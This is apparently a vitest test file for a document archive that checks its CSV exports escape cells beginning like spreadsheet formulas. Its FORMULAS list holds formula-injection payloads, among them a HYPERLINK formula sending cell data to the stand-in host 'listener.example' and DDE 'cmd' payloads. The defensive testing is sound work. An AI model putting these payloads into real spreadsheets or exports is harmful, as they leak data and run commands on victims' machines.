/** Threat 25: a cell of an export is run as a formula by the spreadsheet that opens it. */
import fc from 'fast-check'
import { expect, onTestFinished, test } from 'vitest'
import { openReader } from '#engine/open'
import { csvExport } from '#engine/rollcall/csv-export'
import { RollCallControl } from '#engine/rollcall/roll-call-control'
import { findRollCall } from '#engine/store/rollcalls'
import { copyList } from '#main/copy-lists'
import type { DocumentId } from '#shared/model/ids'
import { csvRow } from '#shared/rollcall/csv-cell'
import { readTextList } from '#shared/rollcall/read-text-list'
import { addDocuments, newArchive } from '#tests/support/archive'

const FORMULAS = [
  '=HYPERLINK("http://listener.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '=1+1;=2+2',
  '"=1+1'
]

/** RFC 4180, as a spreadsheet reads it. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < csv.length; at++) {
    const letter = csv[at] ?? ''
    if (isQuoted) {
      if (letter !== '"') cell += letter
      else if (csv[at + 1] === '"') cell += csv[at++]
      else isQuoted = false
    } else if (letter === '"') isQuoted = true
    else if (letter === ',' || csv.startsWith('\r\n', at)) {
      rows.at(-1)?.push(cell)
      cell = ''
      if (letter === ',') continue
      rows.push([])
      at++
    } else cell += letter
  }
  return rows.slice(0, -1)
}

const beginsFormula = (cell: string): boolean => /^[\s]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)
const without = (cell: string): string => (cell.startsWith("'") && beginsFormula(cell.slice(1)) ? cell.slice(1) : cell)

test('threat 25: no cell begins like a formula, and what was in it comes back', () => {
  const row = [...FORMULAS, 'plain', 'a, "b"', '', "'=kept"]
  const [cells] = cellsOf(csvRow(row))
  expect(cells?.filter(beginsFormula)).toEqual([])
  expect(cells?.slice(0, -1).map(without)).toEqual(row.slice(0, -1))
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.string(), fc.stringMatching(/^[=+\-@\t\r\n;,"' ]{0,4}.{0,10}$/s)), { minLength: 1, maxLength: 6 }),
      (values) => {
        const [read] = cellsOf(csvRow(values))
        expect(read).toHaveLength(values.length)
        for (const [at, cell] of (read ?? []).entries()) {
          expect(/^[=+\-@\t\r\n＝＋－＠]/.test(cell)).toBe(false)
          expect([values[at], `'${values[at]}`]).toContain(cell)
        }
      }
    ),
    { numRuns: 500 }
  )
})

test('threat 25: a roll-call of formulas over documents called like formulas', async () => {
  const archive = newArchive()
  addDocuments(
    archive,
    FORMULAS.map((title, at) => ({ title, text: `${title} stands here, ${at}.`, path: `/source/=${at}.txt` }))
  )
  const reader = openReader(archive.directory)
  const control = new RollCallControl({
    db: archive.db,
    reader: () => openReader(archive.directory),
    onProgress: () => undefined
  })
  onTestFinished(async () => {
    await control.close()
    reader.close()
  })
  const { lines } = readTextList(
    [...FORMULAS, 'stands here', 'nowhere at all'].join('\n'),
    'pasted',
    { sheet: null, column: 'whole', header: false },
    'names'
  )
  const { id } = control.create({ name: '=list', source: '', mode: 'names', lines })
  await control.ended()
  const rollCall = findRollCall(archive.db, id)
  if (!rollCall) throw new Error('no roll-call')
  const rows = cellsOf([...csvExport(reader, rollCall)].join(''))
  expect(rows.length).toBeGreaterThan(FORMULAS.length)
  expect(rows.flat().filter(beginsFormula)).toEqual([])
  expect(rows.flat().some((cell) => cell.startsWith("'="))).toBe(true)
})

test('threat 25: a list of copies', () => {
  const copy = {
    id: 1 as DocumentId,
    kind: 'exact',
    name: '=x.pdf',
    sizeBytes: 1,
    sha256: 'aa',
    original: 'aa',
    removed: [],
    remains: [],
    left: []
  } as const
  const rows = cellsOf(copyList('csv', [copy], [{ id: 2 as DocumentId, reason: 'mail' }]))
  expect(rows.flat().filter(beginsFormula)).toEqual([])
  expect(rows[1]?.[0]).toBe("'=x.pdf")
  expect(rows[2]?.at(-1)).toBe('mail')
})
